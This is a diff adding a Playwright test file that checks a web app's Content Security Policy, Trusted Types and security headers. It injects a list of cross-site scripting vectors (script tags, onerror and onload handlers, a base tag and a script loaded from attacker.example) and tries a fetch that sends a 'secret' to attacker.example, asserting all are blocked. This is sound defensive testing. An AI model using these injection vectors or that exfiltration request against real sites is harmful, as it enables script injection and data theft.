@@ -1,0 +1,91 @@
+import type { Page } from "@playwright/test";
+import { expect, open, ready, test } from "./test.ts";
+
+// What browsers say of what the policy stops.
+const STOPPED = /Content Security Policy|violates the following|Trusted/i;
+
+const hasRun = (page: Page) => page.evaluate(() => "injected" in window);
+
+test("a script that is injected into a page does not run", async ({ page, allowed, baseURL }) => {
+  allowed.errors.push(STOPPED, /ERR_|404/);
+  const injections = [
+    "<script>window.injected = 1</script>",
+    "<img src=/no-such-picture onerror='window.injected = 1'>",
+    "<svg onload='window.injected = 1'></svg>",
+    "<iframe srcdoc='<script>parent.injected = 1</script>'></iframe>",
+    "<script src='data:text/javascript,window.injected=1'></script>",
+    "<script src='https://attacker.example/x.js'></script>",
+    "<base href='https://attacker.example/'>",
+  ].join("");
+  await page.route(`${baseURL}/About`, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: (await response.text()).replace("<body>", `<body>${injections}`) });
+  });
+  allowed.requests.push(/^https:\/\/attacker\.example\//);
+  await page.goto("/About");
+  await ready(page);
+  expect(await hasRun(page)).toBe(false);
+  expect(await page.evaluate(() => document.baseURI)).toBe(`${baseURL}/About`);
+});
+
+test("no text becomes a script, and nothing is asked of a foreign address", async ({ page, allowed }) => {
+  allowed.errors.push(STOPPED);
+  await open(page, "/Security/Hash");
+  const outcomes = await page.evaluate(async () => {
+    const attempts: Record<string, () => unknown> = {
+      innerHTML: () => {
+        document.createElement("div").innerHTML = "<img src=x onerror='window.injected = 1'>";
+      },
+      "a script's text": () => {
+        document.body.append(Object.assign(document.createElement("script"), { textContent: "window.injected = 1" }));
+      },
+      "a script's address": () => {
+        document.body.append(Object.assign(document.createElement("script"), { src: "https://attacker.example/x.js" }));
+      },
+      // Later: what a test evaluates may itself do so.
+      "a function from text": () =>
+        new Promise((resolve, reject) => {
+          setTimeout(() => {
+            try {
+              resolve(Reflect.construct(Function, ["window.injected = 1"])());
+            } catch (error) {
+              reject(error);
+            }
+          });
+        }),
+      "a worker from text": () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))),
+      "a policy of its own": () => Reflect.get(window, "trustedTypes").createPolicy("other", {}),
+      "a second of ours": () => Reflect.get(window, "trustedTypes").createPolicy("tabkit", {}),
+      "a foreign request": () => fetch("https://attacker.example/?secret"),
+    };
+    const results: Record<string, string> = {};
+    for (const [name, attempt] of Object.entries(attempts)) {
+      try {
+        await attempt();
+        results[name] = "done";
+      } catch (error) {
+        results[name] = (error as Error).name;
+      }
+    }
+    return results;
+  });
+  expect(outcomes).toEqual(
+    Object.fromEntries(Object.keys(outcomes).map((name) => [name, expect.stringMatching(/Error$/)])),
+  );
+  expect(await hasRun(page)).toBe(false);
+});
+
+test("every file comes with the closed headers", async ({ request }) => {
+  for (const path of ["/", "/Css/Gradient", "/no/such/page", "/icon.svg", "/service-worker.js"]) {
+    const headers = (await request.get(path)).headers();
+    expect(headers["content-security-policy"], path).toMatch(
+      /^default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; require-trusted-types-for 'script';/,
+    );
+    expect(headers["content-security-policy"], path).not.toContain("unsafe-inline");
+    expect(headers["cross-origin-opener-policy"], path).toBe("same-origin");
+    expect(headers["cross-origin-resource-policy"], path).toBe("same-origin");
+    expect(headers["permissions-policy"], path).toMatch(
+      /^camera=\(self\), clipboard-write=\(self\), (\w[\w-]*=\(\)(, )?)+$/,
+    );
+  }
+});
